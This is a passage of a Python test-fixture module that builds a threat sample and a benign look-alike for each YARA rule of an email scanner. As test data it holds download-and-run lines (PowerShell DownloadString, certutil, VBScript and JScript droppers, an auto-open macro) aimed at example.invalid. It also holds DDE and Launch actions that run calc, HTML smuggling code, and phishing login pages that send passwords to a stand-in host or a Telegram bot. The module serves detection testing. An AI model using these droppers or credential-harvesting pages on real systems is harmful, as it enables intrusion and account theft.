"""A true-positive sample and a benign look-alike for every YARA rule in yara/, built in code.

Nothing here is malware. Executables are header stubs that do nothing, scripts point at
``example.invalid`` (a name that can never resolve), and the EICAR test file, the only test
signature, is assembled from pieces at run time so this file itself never looks like it.
Each threat is the smallest real file of its kind that carries the technique; each benign
look-alike is a real document (PDF, PNG, DOCX, XLSX, CSV, ICS, zip of documents, HTML...)
that shares the threat's surface (same format, the same words in its text) but not the
technique, so a rule that matched too loosely would fire on it.

``Sample.expect`` is the least action a full default scan must reach: programs and
malware-class techniques quarantine by themselves; a few phishing-type signals that also
have innocent uses (a PDF form posting to a web site, a lone redirecting page) only tag.
"""
from __future__ import annotations

import base64
import struct
import urllib.parse
import zlib
from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import make_msgid
from typing import Callable

from filetype_samples import (
    AUTOOPEN_MACRO,
    CSV_TEXT,
    HARMLESS_MACRO,
    ICS_TEXT,
    elf_exe,
    iso_image,
    lnk_shortcut,
    macho_exe,
    message,
    msi_installer,
    ole_file,
    pe_exe,
    real_docx,
    real_pdf,
    real_png,
    vba_streams,
    vhd_image,
    word97_with_macro,
    xls_with_xlm_macro_sheet,
    xlsm_with_macro_sheet,
    zip_of_documents,
    zip_with,
)

from mailguard.model import Action


@dataclass(frozen=True)
class Sample:
    """One file to attach (or, with ``body=True``, an HTML body) and what a scan must do."""

    filename: str
    content_type: str
    build: Callable[[], bytes]
    expect: Action = Action.QUARANTINE
    body: bool = False

    def data(self) -> bytes:
        return self.build()

    def message(self) -> bytes:
        if self.body:
            return html_message(self.data().decode("utf-8"))
        return message([(self.filename, self.data(), self.content_type)])


def html_message(html: str, subject: str = "Your monthly update") -> bytes:
    """A message with a plain-text and an HTML alternative, as newsletters are sent."""
    msg = EmailMessage()
    msg["From"] = "Clinic News <news@sender.example>"
    msg["To"] = "frontdesk@practice.example"
    msg["Subject"] = subject
    msg["Message-ID"] = make_msgid(domain="sender.example")
    msg.set_content("Please view this message in a mail program that shows HTML.\n")
    msg.add_alternative(html, subtype="html")
    return msg.as_bytes()


# --------------------------------------------------------------------------- EICAR


def eicar() -> bytes:
    """The EICAR test file, joined from pieces so no file in the repository contains it."""
    pieces = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-", "TEST-FILE!$H+H*")
    return "".join(pieces).encode("ascii")


# --------------------------------------------------------------------------- programs


def png_with_appended_pe() -> bytes:
    """A real picture with a Windows program glued to its end (a polyglot)."""
    return real_png() + pe_exe()


def chm_help() -> bytes:
    """A compiled HTML Help header (ITSF version 3)."""
    return b"ITSF" + struct.pack("<III", 3, 0x60, 1) + b"\0" * 0x100


def jar_archive() -> bytes:
    class_file = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 32
    return zip_with({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Invoice\r\n\r\n",
                     "Invoice.class": class_file})


def msix_package() -> bytes:
    return zip_with({"AppxManifest.xml": b'<?xml version="1.0"?><Package/>', "AppxSignature.p7x": b"PKCX",
                     "VFS/update.exe": pe_exe()})


def word97_document() -> bytes:
    """A Word 97-2003 document without macros: the same container as an MSI or a macro file."""
    fib = struct.pack("<HH", 0xA5EC, 0x00C1) + b"\0" * 508
    return ole_file({"WordDocument": fib.ljust(4096, b"\0"), "1Table": b"\0" * 64})


def text(content: str) -> Callable[[], bytes]:
    return lambda: content.encode("utf-8")


# --------------------------------------------------------------------------- scripts

JSCRIPT = (
    'var sh = new ActiveXObject("WScript.Shell");\r\n'
    'var x = new ActiveXObject("MSXML2.XMLHTTP");\r\n'
    'x.open("GET", "http://example.invalid/a.bin", false); x.send();\r\n'
    'sh.Run("cmd /c start %TEMP%\\\\a.exe", 0);\r\n'
)
VBSCRIPT = (
    'Set s = CreateObject("WScript.Shell")\r\n'
    'Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
    'h.Open "GET", "http://example.invalid/a.bin", False\r\n'
    's.Run "cmd /c calc", 0\r\n'
)
VBE = "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"
HTA = '<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/><script language="VBScript">x = 1</script></head></html>\n'
WSF = '<job id="main"><script language="JScript">var s = WScript.CreateObject("WScript.Shell");</script></job>\n'


def powershell_encoded() -> bytes:
    command = base64.b64encode("Write-Output 'hello'".encode("utf-16-le")).decode()
    return f"@echo off\r\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {command}\r\n".encode()


POWERSHELL_DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')\r\n"
LOLBIN = "@echo off\r\ncertutil -urlcache -split -f http://example.invalid/a.exe %TEMP%\\a.exe && start %TEMP%\\a.exe\r\n"

# --------------------------------------------------------------------------- Office

SUSPICIOUS_MACRO = """Attribute VB_Name = "Module1"
Sub Document_Open()
    Set sh = CreateObject("WScript.Shell")
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://example.invalid/a.bin", False
    sh.Run Environ("TEMP") & "\\a.exe"
End Sub
"""

_CT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
)
_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_REL_NS}">'
        + "".join(relationships) + "</Relationships>"
    ).encode()


def docx(body_xml: str = "<w:p><w:r><w:t>Intake form</w:t></w:r></w:p>", extra: dict[str, bytes] | None = None,
         document_rels: tuple[str, ...] = ()) -> bytes:
    """A Word document whose body is ``body_xml`` (WordprocessingML), plus extra parts."""
    content_types = (_CT_HEAD + '<Override PartName="/word/document.xml" ContentType="application/'
                     'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>').encode()
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{_OFFICE_REL}"><w:body>{body_xml}</w:body></w:document>'
    ).encode()
    members = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _rels(f'<Relationship Id="rId1" Type="{_OFFICE_REL}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": document,
    }
    if document_rels:
        members["word/_rels/document.xml.rels"] = _rels(*document_rels)
    members.update(extra or {})
    return zip_with(members)


def xlsx() -> bytes:
    """An ordinary Excel workbook with one worksheet."""
    content_types = (_CT_HEAD + '<Override PartName="/xl/workbook.xml" ContentType="application/'
                     'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>').encode()
    workbook = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Invoices" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>Total</t></is></c><c r="B1"><f>SUM(1,2)</f></c></row>'
        b"</sheetData></worksheet>"
    )
    return zip_with({"[Content_Types].xml": content_types, "xl/workbook.xml": workbook,
                     "xl/worksheets/sheet1.xml": sheet})


def dde_docx() -> bytes:
    return docx('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "/></w:p>')


def page_field_docx() -> bytes:
    """A normal field (page number) in the same place a DDE field would sit."""
    return docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE '
                '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


DDE_CSV = b"name,amount\nrefund,=cmd|' /C calc.exe'!A0\n"


def template_docx(target: str) -> bytes:
    """A document whose settings name an attached template at ``target``."""
    settings = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>'
    rels = _rels(f'<Relationship Id="rId1" Type="{_OFFICE_REL}/attachedTemplate" Target="{target}" TargetMode="External"/>')
    return docx(extra={"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def remote_template_docx() -> bytes:
    return template_docx("https://example.invalid/templates/invoice.dotm")


def local_template_docx() -> bytes:
    return template_docx("file:///C:\\Users\\pat\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")


def external_ole_link_docx() -> bytes:
    target = "mhtml:http://example.invalid/x.html!x-usc:http://example.invalid/x.html"
    return docx(document_rels=(
        f'<Relationship Id="rId99" Type="{_OFFICE_REL}/oleObject" Target="{target}" TargetMode="External"/>',
    ))


def hyperlink_docx() -> bytes:
    return docx('<w:p><w:hyperlink r:id="rId5"><w:r><w:t>our web site</w:t></w:r></w:hyperlink></w:p>',
                document_rels=(f'<Relationship Id="rId5" Type="{_OFFICE_REL}/hyperlink" '
                               'Target="https://practice.example/" TargetMode="External"/>',))


def ole_package(filename: str, payload: bytes) -> bytes:
    """An OLE "Package" object (\\x01Ole10Native stream) wrapping a file, as Office embeds one."""
    name = filename.encode("latin-1") + b"\0"
    path = b"C:\\Users\\pat\\Desktop\\" + name
    temp = b"C:\\Users\\pat\\AppData\\Local\\Temp\\" + name
    native = (struct.pack("<H", 2) + name + path + struct.pack("<HH", 0, 3) + struct.pack("<I", len(temp)) + temp
              + struct.pack("<I", len(payload)) + payload)
    return ole_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


def docx_with_package(filename: str, payload: bytes) -> bytes:
    body = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId7"/></w:object></w:r></w:p>'
    return docx(body, extra={"word/embeddings/oleObject1.bin": ole_package(filename, payload)},
                document_rels=(f'<Relationship Id="rId7" Type="{_OFFICE_REL}/oleObject" '
                               'Target="embeddings/oleObject1.bin"/>',))


def docx_with_script_package() -> bytes:
    return docx_with_package("Invoice.vbs", VBSCRIPT.encode())


def docx_with_text_package() -> bytes:
    return docx_with_package("notes.txt", b"Bring your insurance card to the first appointment.\r\n")


def docx_with_picture() -> bytes:
    return docx('<w:p><w:r><w:t>Our new office</w:t></w:r></w:p>', extra={"word/media/image1.png": real_png()})


def _rtf_hex(data: bytes) -> str:
    return data.hex()


def rtf_equation_exploit() -> bytes:
    """An RTF whose auto-updating object claims the Equation Editor class (no exploit code)."""
    header = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", 11) + b"Equation.3\0" + struct.pack("<II", 0, 0)
    objdata = _rtf_hex(header + struct.pack("<I", 16) + b"\0" * 16)
    return ("{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260"
            f"{{\\*\\objdata {objdata}}}}}}}\n").encode()


def rtf_embedded_package() -> bytes:
    """An RTF carrying an embedded (not auto-updating) OLE package of a script."""
    ole = ole_package("Invoice.vbs", VBSCRIPT.encode())
    header = struct.pack("<II", 0x00000501, 2) + struct.pack("<I", 8) + b"Package\0" + struct.pack("<II", 0, 0)
    objdata = _rtf_hex(header + struct.pack("<I", len(ole)) + ole)
    return ("{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}\\objw380\\objh260"
            f"{{\\*\\objdata {objdata}}}}}}}\n").encode()


def rtf_auto_update_object() -> bytes:
    return rtf_embedded_package().replace(b"\\objemb", b"\\objemb\\objupdate", 1)


SYLK_EXEC = 'ID;P\r\nC;X1;Y1;EEXEC("calc.exe")\r\nC;X1;Y2;EHALT()\r\nE\r\n'
SYLK_PRICES = 'ID;PWXL;N;E\r\nC;Y1;X1;K"Total"\r\nC;Y1;X2;K3;ESUM(1,2)\r\nC;Y2;X2;K2;ETRUNC(2.5)\r\nE\r\n'
IQY = "WEB\r\n1\r\nhttp://example.invalid/a.txt\r\n"
SETTINGCONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/'
    '2013/SettingContent"><ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.'
    "immersivecontrolpanel</AppID><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation>"
    "</SearchableContent></PCSettings>\n"
)
SETTINGS_XML = '<?xml version="1.0"?>\n<Settings><Display brightness="80"/><Link>https://practice.example</Link></Settings>\n'

RTF_LETTER = (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 Dear patient,\\par "
              b"The object of this letter is to confirm your appointment and the update to your file.\\par }\n")

# --------------------------------------------------------------------------- PDF


def pdf(*objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A one-page PDF (``filetype_samples.real_pdf``); ``objects`` are numbered from 6 and
    ``catalog_extra`` goes into the document catalog (actions, name trees, forms)."""
    return real_pdf(objects=objects, catalog_extra=catalog_extra)


def pdf_javascript_on_open() -> bytes:
    return pdf(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Document expired'\\);) >>",
               catalog_extra=b"/OpenAction 6 0 R")


def pdf_open_zoom() -> bytes:
    """A PDF that opens fitted to the window: the most common innocent OpenAction."""
    return pdf(catalog_extra=b"/OpenAction [3 0 R /Fit]")


def pdf_javascript_name_tree() -> bytes:
    """Document-level JavaScript (as form tools add) that does not run on opening."""
    return pdf(b"<< /Names [(init) 7 0 R] >>", b"<< /S /JavaScript /JS (var total = 0;) >>",
               catalog_extra=b"/Names << /JavaScript 6 0 R >>")


def pdf_launch() -> bytes:
    return pdf(b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
               catalog_extra=b"/OpenAction 6 0 R")


def pdf_with_embedded(filename: str, payload: bytes) -> bytes:
    return pdf(
        b"<< /Names [(%s) 7 0 R] >>" % filename.encode(),
        b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 8 0 R >> >>" % (filename.encode(), filename.encode()),
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        catalog_extra=b"/Names << /EmbeddedFiles 6 0 R >>",
    )


def pdf_embedded_program() -> bytes:
    return pdf_with_embedded("invoice.exe", pe_exe())


def pdf_embedded_text() -> bytes:
    return pdf_with_embedded("notes.txt", b"Parking is behind the building.\n")


def pdf_hidden_in_object_stream() -> bytes:
    """PDF 1.5 style: the page's open action and its JavaScript are packed in a compressed
    object stream, where a plain byte scan sees neither name."""
    packed = b"7 0 8 60 << /Type /Action /S /JavaScript /JS (app.launchURL\\('https://example.invalid/'\\);) >> " \
             b"<< /AA << /O 7 0 R >> >>"
    stream = zlib.compress(packed)
    return pdf(b"<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
               + stream + b"\nendstream")


def pdf_compressed_page_text() -> bytes:
    """An ordinary compressed PDF object stream: fonts and page settings only."""
    stream = zlib.compress(b"7 0 << /Type /FontDescriptor /FontName /Helvetica /Flags 32 >>")
    return pdf(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
               + stream + b"\nendstream")


def pdf_form_submit() -> bytes:
    field = (b"<< /FT /Tx /T (password) /Ff 8192 /Rect [72 600 300 620] /P 3 0 R "
             b"/A << /S /SubmitForm /F << /FS /URL /F (https://example.invalid/collect.php) >> /Flags 4 >> >>")
    return pdf(field, catalog_extra=b"/AcroForm << /Fields [6 0 R] >>")


def pdf_fillable_form() -> bytes:
    """A print-and-fax intake form: it opens fitted to the page and its total field has a
    calculation script, as form designers produce."""
    field = (b"<< /FT /Tx /T (total) /Rect [72 600 300 620] /P 3 0 R "
             b"/AA << /C << /S /JavaScript /JS (event.value = 40 * 3;) >> >> >>")
    return pdf(field, catalog_extra=b"/OpenAction [3 0 R /Fit] /AcroForm << /Fields [6 0 R] >>")


def pdf_with_link() -> bytes:
    return pdf(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://practice.example/pay) >> >>")


# --------------------------------------------------------------------------- HTML


def page(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title>{head}</head><body>{body}</body></html>\n"


HTML_SMUGGLING = page(
    "<p>Downloading your document...</p><script>\n"
    "var b64 = 'UEsDBAoAAAAAAA==';\n"
    "var raw = atob(b64); var bytes = new Uint8Array(raw.length);\n"
    "for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }\n"
    "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
    "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
    "a.download = 'Invoice.iso'; document.body.appendChild(a); a.click();\n"
    "</script>"
)
HTML_SMUGGLING_SAVEAS = page(
    "<script>var raw = window.atob(payload); var bytes = new Uint8Array(raw.length);"
    "for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);"
    "saveAs(new Blob([bytes]), 'Scan_0042.img');</script>"
)
HTML_DOWNLOAD_LINK = page('<p>Your statement: <a href="statement.pdf" download>download</a></p>')
HTML_DATA_URI = page('<a href="data:application/octet-stream;base64,UEsDBAoAAAAAAA==" download="Invoice.zip">Open invoice</a>')
HTML_INLINE_IMAGE = page(
    '<img alt="logo" src="data:image/png;base64,' + base64.b64encode(real_png()).decode() + '"><p>Welcome!</p>'
)
HTML_DECODE = page("<script>document.write(atob('PGgxPk9mZmljZSAzNjU8L2gxPg=='));</script>")
HTML_PLAIN_SCRIPT = page("<p>Hours</p><script>var opened = new Date(); console.log(opened);</script>")
LOGIN_FORM = page(
    '<h1>Sign in to view your voicemail</h1>'
    '<form action="https://example.invalid/login.php" method="post">'
    '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>'
)
LOGIN_FETCH = page(
    '<h1>Session expired</h1><input type="email" id="u"><input type="password" id="p">'
    '<button onclick="go()">Continue</button><script>function go(){'
    "fetch('https://example.invalid/next.php', {method: 'POST', body: u.value + p.value});}</script>"
)
LOGIN_TELEGRAM = page(
    '<input type="password" id="p"><script>function go(){'
    "fetch('https://api.telegram.org/bot123456789:AAEexampleexampleexample/sendMessage?chat_id=1&text=' + p.value);}</script>"
)
SECURE_ENVELOPE = page(
    "<p>You have received a secure message. Enter your password to open it.</p>"
    '<form name="f" method="post" action="https://res.cisco.com/websafe/decrypt">'
    '<input type="hidden" name="envelope" value="AAAA"><input type="password" name="key1">'
    '<input type="submit" value="Open"></form>'
)
NEWSLETTER = page(
    '<h1>Spring newsletter</h1><p>Follow us on Telegram: https://t.me/practice_news</p>'
    '<form action="https://practice.example/search" method="get"><input type="text" name="q">'
    '<input type="submit" value="Search"></form><p><a href="mailto:office@practice.example">Write to us</a></p>'
)
META_REFRESH = page("<p>Loading...</p>", head='<meta http-equiv="refresh" content="0; url=https://example.invalid/o365/">')
META_CHARSET = page("<p>Appointment reminder</p>", head='<meta http-equiv="Content-Type" content="text/html; charset=utf-8">')
SCRIPT_REDIRECT = page("<script>window.location.href = \"https://example.invalid/o365/\";</script>")
HIDDEN_LOGIN = page("<script>document.write(unescape('" + urllib.parse.quote(LOGIN_FORM) + "'));</script>")
AUTO_CLICK = page('<a id="go" href="https://example.invalid/index.html">Open</a>',
                  ).replace("<body>", "<body onload=\"document.getElementById('go').click();\">")
SEARCH_MS = page('<a href="search-ms:query=invoice&amp;crumb=location:\\\\example.invalid@SSL\\DavWWWRoot\\share">Open invoice</a>')

# --------------------------------------------------------------------------- containers and shortcuts


def fat_image() -> bytes:
    """A floppy-style FAT12 disk image: boot sector with its signature, then empty space."""
    boot = bytearray(512)
    boot[0:3] = b"\xeb\x3c\x90"
    boot[3:11] = b"MSDOS5.0"
    struct.pack_into("<HBHBHHBHHH", boot, 11, 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2)
    boot[54:62] = b"FAT12   "
    boot[510:512] = b"\x55\xaa"
    return bytes(boot) + b"\0" * (64 * 1024 - 512)


ONENOTE_HEADER = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
ONENOTE_FILE_DATA = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")


def onenote_with_file() -> bytes:
    return ONENOTE_HEADER + b"\0" * 1008 + ONENOTE_FILE_DATA + struct.pack("<Q", 20) + b"@echo off\r\nstart x\r\n"


def onenote_plain() -> bytes:
    return ONENOTE_HEADER + b"\0" * 2032


SVG_SCRIPT = ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              '<script>window.location = "https://example.invalid/";</script></svg>\n')
SVG_LOGO = ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            '<rect width="10" height="10" fill="#2a7"/><text x="1" y="8">Script Family Therapy</text></svg>\n')
URL_SHORTCUT = "[InternetShortcut]\r\nURL=https://example.invalid/invoice\r\n"
URL_FILE_TARGET = "[InternetShortcut]\r\nURL=file://example.invalid/share/invoice.exe\r\nIconIndex=1\r\n"
LINKS_TEXT = "Useful links\r\nURL=https://practice.example/forms\r\nPortal: https://portal.practice.example\r\n"
LIBRARY_MS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList>'
    "<searchConnectorDescription><simpleLocation><url>\\\\example.invalid\\share</url></simpleLocation>"
    "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n"
)
MAIL_PROFILE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadContent</key><array>'
    "<dict><key>EmailAddress</key><string>frontdesk@example.invalid</string><key>PayloadType</key>"
    "<string>com.apple.mail.managed</string></dict></array><key>PayloadType</key><string>Configuration</string>"
    "</dict></plist>\n"
)
ROOT_CA_PROFILE = MAIL_PROFILE.replace("com.apple.mail.managed", "com.apple.security.root")
PREFERENCES_PLIST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>Theme</key><string>Light</string>'
    "<key>TrustedServices</key><array><string>com.apple.security.root</string></array></dict></plist>\n"
)
LIBRARY_XML = ('<?xml version="1.0" encoding="UTF-8"?>\n<library><book><title>Coping with anxiety</title>'
               "<shelf>B2</shelf></book></library>\n")

# --------------------------------------------------------------------------- the table

TXT, HTML, PDF, BIN = "text/plain", "text/html", "application/pdf", "application/octet-stream"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RTF = "application/rtf"

# rule name -> (true positive, benign look-alike)
SAMPLES: dict[str, tuple[Sample, Sample]] = {
    "EICAR_TEST_FILE": (Sample("eicar.com.txt", TXT, eicar),
                        Sample("antivirus-notice.txt", TXT, text("Our antivirus uses the EICAR standard test; nothing to do.\n"))),
    "EXECUTABLE_WINDOWS_PE": (Sample("invoice.pdf", PDF, pe_exe), Sample("invoice.pdf", PDF, real_pdf)),
    "EXECUTABLE_LINUX_ELF": (Sample("report", BIN, elf_exe), Sample("report.csv", "text/csv", lambda: CSV_TEXT)),
    "EXECUTABLE_MACOS_MACHO": (Sample("Statement", BIN, macho_exe), Sample("statement.png", "image/png", real_png)),
    "EXECUTABLE_EMBEDDED_PE": (Sample("photo.png", "image/png", png_with_appended_pe),
                               Sample("photo.png", "image/png", real_png)),
    "INSTALLER_WINDOWS_MSI": (Sample("update.msi", BIN, msi_installer),
                              Sample("letter.doc", "application/msword", word97_document)),
    "SHORTCUT_WINDOWS_LNK": (Sample("invoice.pdf.lnk", BIN, lnk_shortcut),
                             Sample("lunch.txt", TXT, text("Lunch menu for Friday: soup, salad.\n"))),
    "HELP_FILE_WINDOWS_CHM": (Sample("manual.chm", BIN, chm_help),
                              Sample("itsf-notes.txt", TXT, text("ITSF meeting notes: schedule review.\n"))),
    "INSTALLER_WINDOWS_MSIX": (Sample("update.msix", "application/zip", msix_package),
                               Sample("intake.docx", DOCX_TYPE, real_docx)),
    "JAVA_ARCHIVE_JAR": (Sample("invoice.jar", "application/java-archive", jar_archive, Action.TAG),
                         Sample("documents.zip", "application/zip", zip_of_documents)),
    "SCRIPT_JSCRIPT_DROPPER": (Sample("payment.js", "application/javascript", text(JSCRIPT)),
                               Sample("it-notes.txt", TXT, text("Never run attachments that use WScript.Shell.\n"))),
    "SCRIPT_VBSCRIPT_DROPPER": (Sample("invoice.vbs", TXT, text(VBSCRIPT)),
                                Sample("howto.txt", TXT, text('Use CreateObject("Scripting.FileSystemObject") to list files.\n'))),
    "SCRIPT_ENCODED_VBE_JSE": (Sample("invoice.vbe", BIN, text(VBE)),
                               Sample("notes.txt", TXT, text("Reminder: #1 priority is the intake backlog.\n"))),
    "SCRIPT_HTA_APPLICATION": (Sample("update.hta", "application/hta", text(HTA)),
                               Sample("newsletter.html", HTML, text(NEWSLETTER))),
    "SCRIPT_WSF_JOB": (Sample("job.wsf", TXT, text(WSF)),
                       Sample("jobs.xml", "application/xml", text("<jobs><job><title>Receptionist</title></job></jobs>\n"))),
    "SCRIPT_POWERSHELL_ENCODED": (Sample("run.cmd", TXT, powershell_encoded),
                                  Sample("howto.txt", TXT, text("Open powershell and type Get-Date to check the clock.\n"))),
    "SCRIPT_POWERSHELL_DOWNLOAD": (Sample("setup.ps1", TXT, text(POWERSHELL_DOWNLOAD)),
                                   Sample("instructions.txt", TXT, text(
                                       "Invoke-WebRequest https://intranet.practice.example/report.csv -OutFile report.csv\n"))),
    "SCRIPT_LOLBIN_DOWNLOAD": (Sample("update.bat", TXT, text(LOLBIN)),
                               Sample("checksums.txt", TXT, text("certutil -hashfile report.pdf SHA256\n"))),
    "OFFICE_VBA_MACROS": (Sample("budget.docm", DOCX_TYPE, lambda: real_docx(macro_source=HARMLESS_MACRO), Action.TAG),
                          Sample("intake.docx", DOCX_TYPE, real_docx)),
    "OFFICE_AUTO_EXEC_MACRO": (Sample("report.doc", "application/msword", lambda: word97_with_macro(AUTOOPEN_MACRO)),
                               Sample("macros-howto.docx", DOCX_TYPE, lambda: real_docx("Sub AutoOpen runs when a file opens"))),
    "OFFICE_SUSPICIOUS_VBA_CALLS": (Sample("invoice.docm", DOCX_TYPE, lambda: real_docx(macro_source=SUSPICIOUS_MACRO)),
                                    Sample("letter.doc", "application/msword", word97_document)),
    "OFFICE_XLM_MACRO_SHEET": (Sample("report.xls", "application/vnd.ms-excel", xls_with_xlm_macro_sheet),
                               Sample("invoices.xlsx", XLSX_TYPE, xlsx)),
    "OFFICE_SYLK_MACRO": (Sample("prices.slk", BIN, text(SYLK_EXEC)), Sample("prices.slk", BIN, text(SYLK_PRICES))),
    "OFFICE_EXCEL_WEB_QUERY": (Sample("report.iqy", BIN, text(IQY)),
                               Sample("web-notes.txt", TXT, text("WEB\r\nteam notes: https://practice.example\r\n"))),
    "OFFICE_DDE_FIELD": (Sample("notice.docx", DOCX_TYPE, dde_docx), Sample("notice.docx", DOCX_TYPE, page_field_docx)),
    "OFFICE_REMOTE_TEMPLATE": (Sample("invoice.docx", DOCX_TYPE, remote_template_docx),
                               Sample("invoice.docx", DOCX_TYPE, local_template_docx)),
    "OFFICE_EXTERNAL_OLE_LINK": (Sample("claim.docx", DOCX_TYPE, external_ole_link_docx),
                                 Sample("claim.docx", DOCX_TYPE, hyperlink_docx)),
    "OFFICE_EMBEDDED_OLE_OBJECT": (Sample("invoice.docx", DOCX_TYPE, docx_with_script_package),
                                   Sample("office.docx", DOCX_TYPE, docx_with_picture)),
    "OFFICE_OLE_PACKAGE_EXECUTABLE": (Sample("invoice.docx", DOCX_TYPE, docx_with_script_package),
                                      Sample("welcome.docx", DOCX_TYPE, docx_with_text_package)),
    "OFFICE_EQUATION_EDITOR_EXPLOIT": (Sample("order.rtf", RTF, rtf_equation_exploit),
                                       Sample("letter.rtf", RTF, lambda: RTF_LETTER)),
    "RTF_EMBEDDED_OBJECT": (Sample("order.rtf", RTF, rtf_embedded_package), Sample("letter.rtf", RTF, lambda: RTF_LETTER)),
    "RTF_OBJECT_AUTO_UPDATE": (Sample("order.rtf", RTF, rtf_auto_update_object),
                               Sample("letter.rtf", RTF, lambda: RTF_LETTER)),
    "PDF_JAVASCRIPT": (Sample("invoice.pdf", PDF, pdf_javascript_on_open),
                       Sample("training.pdf", PDF, lambda: real_pdf("JavaScript training schedule"))),
    "PDF_AUTO_ACTION": (Sample("invoice.pdf", PDF, pdf_javascript_on_open), Sample("welcome.pdf", PDF, pdf_with_link)),
    "PDF_JAVASCRIPT_ON_OPEN": (Sample("invoice.pdf", PDF, pdf_javascript_on_open),
